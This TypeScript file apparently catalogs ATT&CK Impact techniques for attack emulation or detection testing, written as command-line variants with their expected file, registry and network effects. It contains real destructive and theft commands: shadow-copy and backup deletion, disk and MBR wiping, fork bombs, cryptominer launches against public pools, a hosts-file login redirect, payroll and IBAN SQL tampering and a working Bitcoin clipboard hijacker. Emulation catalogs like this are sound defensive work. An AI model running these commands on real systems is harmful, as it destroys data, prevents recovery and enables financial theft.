import { t, v } from "../dsl";

/** Impact: destruction, encryption and denial as ransomware crews carry them out. */
export const impact = [
  t("T1485", "Data destruction", "Files overwritten with sdelete/cipher or deleted en masse.", [
    v("sdelete", ["{{tools}}\\sdelete64.exe -accepteula -r -s -q C:\\Users\\{{user}}\\Documents"], {
      elevated: true,
    }),
    // SDelete copied under a harmless name before wiping the backup folder (its PE identity stays sdelete).
    v(
      "sdelete-renamed",
      [
        {
          cmd: "cmd.exe /c copy {{tools}}\\sdelete64.exe C:\\Windows\\Temp\\{{name}}.exe",
          copies: [["{{tools}}\\sdelete64.exe", "C:\\Windows\\Temp\\{{name}}.exe"]],
        },
        "C:\\Windows\\Temp\\{{name}}.exe -accepteula -p 3 -s -q D:\\Backups",
      ],
      { elevated: true },
    ),
    v("cipher-wipe", ["cipher.exe /w:C:\\"], { elevated: true }),
    v("del-recursive", ["cmd.exe /c del /s /q /f D:\\Backups\\*.*"], { elevated: true }),
  ]),
  t(
    "T1486",
    "Data encrypted for impact",
    "Ransomware run with its usual command line, writing a note and encrypted files.",
    [
      // LockBit/BlackCat-style: the encryptor walks the profile and shares, writes each file anew with its own
      // extension, drops a note per folder, and first shells out to kill shadow copies and recovery.
      v(
        "ransomware-exe",
        [
          {
            cmd: "{{tools}}\\{{name}}.exe -pass {{rand2}}{{rand}}{{n}}",
            as: "enc",
          },
          { cmd: "cmd.exe /c vssadmin.exe delete shadows /all /quiet", parent: "enc" },
          { cmd: "vssadmin.exe delete shadows /all /quiet", parent: "prev" },
          { cmd: "cmd.exe /c bcdedit /set {default} recoveryenabled No", parent: "enc" },
          { cmd: "bcdedit /set {default} recoveryenabled No", parent: "prev" },
          {
            by: "enc",
            files: [
              "{{home}}\\Documents\\Budget_2025.xlsx.{{$ext}}",
              "{{home}}\\Documents\\Contracts\\NDA_signed.pdf.{{$ext}}",
              "{{home}}\\Desktop\\notes.docx.{{$ext}}",
              "{{home}}\\Pictures\\IMG_0412.jpg.{{$ext}}",
              "{{home}}\\Documents\\{{$ext}}.README.txt",
              "{{home}}\\Desktop\\{{$ext}}.README.txt",
              "C:\\Users\\Public\\{{$ext}}.README.txt",
            ],
            deletes: [
              "{{home}}\\Documents\\Budget_2025.xlsx",
              "{{home}}\\Documents\\Contracts\\NDA_signed.pdf",
              "{{home}}\\Desktop\\notes.docx",
              "{{home}}\\Pictures\\IMG_0412.jpg",
            ],
          },
        ],
        { elevated: true, vars: { ext: "{{rand}}" } },
      ),
      v("gpg-encrypt", [
        {
          cmd: '"C:\\Program Files (x86)\\GnuPG\\bin\\gpg.exe" --batch --yes --passphrase {{rand2}} --symmetric --cipher-algo AES256 {{home}}\\Documents\\q3.xlsx',
          files: ["{{home}}\\Documents\\q3.xlsx.gpg"],
        },
      ]),
      // Vault-style: a batch script renames the GnuPG it ships with and encrypts document by document.
      v("renamed-gpg", [
        {
          cmd: "cmd.exe /c move {{tmp}}\\{{rand}}\\gpg.exe {{tmp}}\\{{rand}}\\{{name}}.exe",
          copies: [["{{tmp}}\\{{rand}}\\gpg.exe", "{{tmp}}\\{{rand}}\\{{name}}.exe"]],
          deletes: ["{{tmp}}\\{{rand}}\\gpg.exe"],
        },
        {
          cmd: '{{tmp}}\\{{rand}}\\{{name}}.exe --batch --yes --trust-model always -r {{rand2}} -o "{{home}}\\Documents\\Budget_2025.xlsx.vault" --encrypt "{{home}}\\Documents\\Budget_2025.xlsx"',
          reads: ["{{home}}\\Documents\\Budget_2025.xlsx"],
          files: ["{{home}}\\Documents\\Budget_2025.xlsx.vault"],
          deletes: ["{{home}}\\Documents\\Budget_2025.xlsx"],
        },
        {
          cmd: 'cmd.exe /c echo Your files are encrypted > "{{home}}\\Desktop\\VAULT.txt"',
          files: ["{{home}}\\Desktop\\VAULT.txt"],
        },
      ]),
      v(
        "psexec-deploy",
        [
          {
            cmd: "{{tools}}\\PsExec.exe -accepteula \\\\{{srv}} -u {{domain}}\\{{admin}} -p ******** -d -s -c C:\\ProgramData\\{{rand}}.exe",
            net: [["@server", 445]],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1489", "Service stop", "Database, backup and AV services stopped with net/sc/taskkill.", [
    v(
      "net-stop",
      [
        'net stop "SQLSERVERAGENT" /y',
        'net stop "MSSQLSERVER" /y',
        'net stop "Veeam Backup Catalog Data Service" /y',
      ],
      { elevated: true },
    ),
    v("sc-stop", ["sc config SQLWriter start= disabled", "sc stop VSS"], { elevated: true }),
    v("taskkill", ["taskkill /F /IM sqlservr.exe", "taskkill /F /IM outlook.exe"], { elevated: true }),
  ]),
  t(
    "T1490",
    "Inhibit system recovery",
    "Shadow copies deleted and recovery disabled (vssadmin, wmic, bcdedit, wbadmin).",
    [
      v("vssadmin", ["vssadmin.exe delete shadows /all /quiet"], { elevated: true }),
      v("wmic-shadowcopy", ["wmic.exe shadowcopy delete /nointeractive"], { elevated: true }),
      v(
        "bcdedit-recovery",
        [
          "bcdedit /set {default} recoveryenabled No",
          "bcdedit /set {default} bootstatuspolicy ignoreallfailures",
        ],
        { elevated: true },
      ),
      v("wbadmin", ["wbadmin delete catalog -quiet", "wbadmin delete systemstatebackup -keepVersions:0"], {
        elevated: true,
      }),
    ],
  ),
  t("T1491", "Defacement", "Wallpaper replaced with a ransom image.", [
    v("wallpaper", [
      {
        cmd: 'reg add "HKCU\\Control Panel\\Desktop" /v Wallpaper /t REG_SZ /d C:\\Users\\Public\\{{rand}}.bmp /f',
        reg: [["HKCU\\Control Panel\\Desktop", "Wallpaper", "C:\\Users\\Public\\{{rand}}.bmp"]],
      },
    ]),
  ]),
  t("T1491.001", "Internal defacement", "Desktop wallpaper and logon message changed to the ransom note.", [
    v("wallpaper-policy", [
      {
        cmd: 'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System" /v Wallpaper /t REG_SZ /d C:\\ProgramData\\{{rand}}.jpg /f',
        reg: [
          [
            "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System",
            "Wallpaper",
            "C:\\ProgramData\\{{rand}}.jpg",
          ],
        ],
      },
    ]),
    v(
      "legalnotice",
      [
        {
          cmd: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System" /v legalnoticecaption /t REG_SZ /d "Your files are encrypted" /f',
          reg: [
            [
              "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System",
              "legalnoticecaption",
              "Your files are encrypted",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1491.002", "External defacement", "A public web page replaced on the web server.", [
    v("iis-index", [{ by: "@system", host: "@server", files: ["C:\\inetpub\\wwwroot\\index.html"] }], {
      shell: "none",
    }),
  ]),
  t("T1495", "Firmware corruption", "Firmware overwritten from the OS with a flasher.", [
    v("flash", ["{{tools}}\\AFUWINx64.EXE {{tools}}\\bad.rom /P /B /N /K"], { elevated: true }),
  ]),
  t("T1496", "Resource hijacking", "A cryptominer started with pool arguments.", [
    v("xmrig", [
      {
        cmd: "{{appdata}}\\xmrig.exe -o pool.minexmr.com:4444 -u 4{{rand2}}{{rand2}} -k --donate-level=1 --cpu-max-threads-hint=50",
        net: [["pool.minexmr.com", 4444]],
      },
    ]),
  ]),
  t("T1496.001", "Compute hijacking", "XMRig/lolMiner consuming CPU/GPU.", [
    v("xmrig", [
      {
        cmd: "C:\\ProgramData\\{{rand}}\\xmrig.exe --url=xmr-eu1.nanopool.org:14433 --user=4{{rand2}} --coin=monero --tls",
        net: [["xmr-eu1.nanopool.org", 14433]],
      },
    ]),
    v(
      "schtask-miner",
      [
        'schtasks /create /tn "\\Microsoft\\Windows\\{{name}}" /tr "C:\\ProgramData\\{{rand}}\\xmrig.exe --background" /sc onstart /ru SYSTEM /f',
      ],
      { elevated: true },
    ),
  ]),
  t("T1496.002", "Bandwidth hijacking", "A proxyware client (e.g. IPRoyal Pawns) installed.", [
    v("proxyware", [
      {
        cmd: "{{appdata}}\\pawns-cli.exe -email={{rand}}@proton.me -password=x -device-name={{me}} -accept-tos",
        net: [["api.pawns.app", 443]],
      },
    ]),
  ]),
  t("T1498", "Network denial of service", "A flooding tool launched from the host.", [
    v("hping", [{ cmd: "{{tools}}\\hping3.exe --flood -S -p 80 {{c2ip}}", net: [["{{c2ip}}", 80]] }]),
  ]),
  t("T1498.001", "Direct network flood", "UDP/TCP flood from the host.", [
    v("loic", [
      { cmd: "{{tools}}\\LOIC.exe /hidemode /target {{c2ip}} /method UDP", net: [["{{c2ip}}", 80]] },
    ]),
  ]),
  t("T1498.002", "Reflection amplification", "Spoofed requests to reflectors.", [
    v("reflect", [{ cmd: "{{tools}}\\{{name}}.exe -r dns -t {{c2ip}}", net: [["8.8.8.8", 53]] }]),
  ]),
  t("T1499", "Endpoint denial of service", "A local service overwhelmed or crashed.", [
    // The loop never ends: a burst of copies, each still running (the first few shown).
    v("fork", [
      { cmd: "cmd.exe /c for /l %i in (1,0,2) do start /b {{tmp}}\\{{rand}}.exe", as: "loop", keep: true },
      ...Array.from({ length: 8 }, () => ({ cmd: "{{tmp}}\\{{rand}}.exe", parent: "loop", keep: true })),
    ]),
  ]),
  t("T1499.001", "OS exhaustion flood", "Resource exhaustion by spawning processes.", [
    v("fork-bomb", [
      { cmd: "cmd.exe /c for /l %i in (0,0,1) do start cmd.exe", as: "loop", keep: true },
      ...Array.from({ length: 8 }, () => ({ cmd: "cmd.exe", parent: "loop", keep: true })),
    ]),
  ]),
  // Floods come from a bot's DDoS module on the compromised host: the implant itself opens the connections.
  t("T1499.002", "Service exhaustion flood", "HTTP floods against an internal server.", [
    v(
      "http-flood",
      [
        {
          cmd: "{{appdata}}\\{{name}}\\{{name}}.exe",
          parent: "@explorer",
          net: [
            ["{{c2}}", 443],
            ["@server", 80],
            ["@server", 80],
            ["@server", 80],
          ],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1499.003", "Application exhaustion flood", "Expensive requests against a web application.", [
    v(
      "search-flood",
      [
        {
          cmd: "{{appdata}}\\{{name}}\\{{name}}.exe",
          parent: "@explorer",
          net: [
            ["{{c2}}", 443],
            ["@server", 443],
            ["@server", 443],
            ["@server", 443],
          ],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1499.004", "Application or system exploitation", "A crash exploit run against a service.", [
    v("crash", [{ cmd: "{{tools}}\\{{name}}.exe {{srvip}} 3389", net: [["@server", 3389]] }]),
  ]),
  t("T1529", "System shutdown/reboot", "shutdown.exe forcing a reboot (often after encryption).", [
    v("shutdown-r", ["shutdown.exe /r /t 0 /f"], { elevated: true }),
    v("shutdown-remote", ['shutdown /r /m \\\\{{srv}} /t 5 /c "maintenance" /f'], { elevated: true }),
    v("restart-computer", [{ ps: "Restart-Computer -Force" }], { shell: "ps", elevated: true }),
  ]),
  t("T1531", "Account access removal", "Passwords changed and accounts disabled or deleted.", [
    v(
      "net-user-password",
      [
        {
          cmd: "net user {{admin}} {{rand2}}! /domain",
          then: [{ id: "r", kind: "account.password.reset", user: "@admin" }],
        },
      ],
      { elevated: true, user: "@admin" },
    ),
    v(
      "disable-account",
      [
        {
          ps: "Disable-ADAccount -Identity {{user}}",
          then: [{ id: "c", kind: "account.change", user: "@user" }],
        },
      ],
      { shell: "ps", user: "@admin" },
    ),
    v("net-user-delete", ["net user {{user}} /delete /domain"], { elevated: true, user: "@admin" }),
  ]),
  t("T1561", "Disk wipe", "Raw disk overwritten.", [
    v("format", ["format D: /FS:NTFS /P:1 /Q /Y"], { elevated: true }),
  ]),
  t("T1561.001", "Disk content wipe", "Volume contents overwritten with cipher /w or a wiper.", [
    v("cipher", ["cipher /w:D:\\"], { elevated: true }),
    v("wiper", ["{{tools}}\\{{name}}.exe \\\\.\\PhysicalDrive0"], { elevated: true }),
  ]),
  t("T1561.002", "Disk structure wipe", "MBR/partition table destroyed (diskpart clean, raw write).", [
    v("diskpart-clean", ["diskpart.exe /s {{tmp}}\\clean.txt"], { elevated: true }),
    v("mbr-writer", ["{{tools}}\\{{name}}.exe --mbr \\\\.\\PhysicalDrive0"], { elevated: true }),
  ]),
  t("T1565", "Data manipulation", "Stored data altered to mislead.", [
    v("sqlcmd-update", [
      {
        cmd: "sqlcmd -S {{srv}} -E -Q \"UPDATE Finance.dbo.Payees SET IBAN='DE{{n}}' WHERE Id=42\"",
        net: [["@server", 1433]],
      },
    ]),
  ]),
  t("T1565.001", "Stored data manipulation", "Records or files changed in place.", [
    v("sqlcmd", [
      {
        cmd: "sqlcmd -S {{srv}} -E -Q \"UPDATE Payroll.dbo.Accounts SET Routing='{{n}}'\"",
        net: [["@server", 1433]],
      },
    ]),
    v(
      "hosts-file",
      [
        {
          cmd: "cmd.exe /c echo {{c2ip}} login.microsoftonline.com >> C:\\Windows\\System32\\drivers\\etc\\hosts",
          files: ["C:\\Windows\\System32\\drivers\\etc\\hosts"],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1565.002", "Transmitted data manipulation", "Traffic altered in transit via a local proxy setting.", [
    v("proxy-setting", [
      {
        cmd: 'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings" /v ProxyServer /t REG_SZ /d {{c2ip}}:8080 /f',
        reg: [
          [
            "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings",
            "ProxyServer",
            "{{c2ip}}:8080",
          ],
        ],
      },
    ]),
  ]),
  t("T1565.003", "Runtime data manipulation", "A running application's memory altered.", [
    v("patch", [{ cmd: "{{tools}}\\{{name}}.exe", access: ["@explorer", "0x1f0fff"] }]),
  ]),
  t("T1657", "Financial theft", "Banking/crypto clipboard hijack or payment redirect.", [
    v(
      "clipper",
      [
        {
          ps: "while($true){ $c = Get-Clipboard; if ($c -match '^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$') { Set-Clipboard 'bc1q{{rand2}}{{rand2}}' }; Start-Sleep 1 }",
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1667", "Email bombing", "Mass newsletter sign-ups to flood a mailbox (precedes help-desk lures).", [
    v(
      "signup-script",
      [
        {
          ps: "Get-Content $env:TEMP\\lists.txt | % { iwr -Method Post -Uri $_ -Body @{email='{{user}}@{{dns}}'} }",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
];
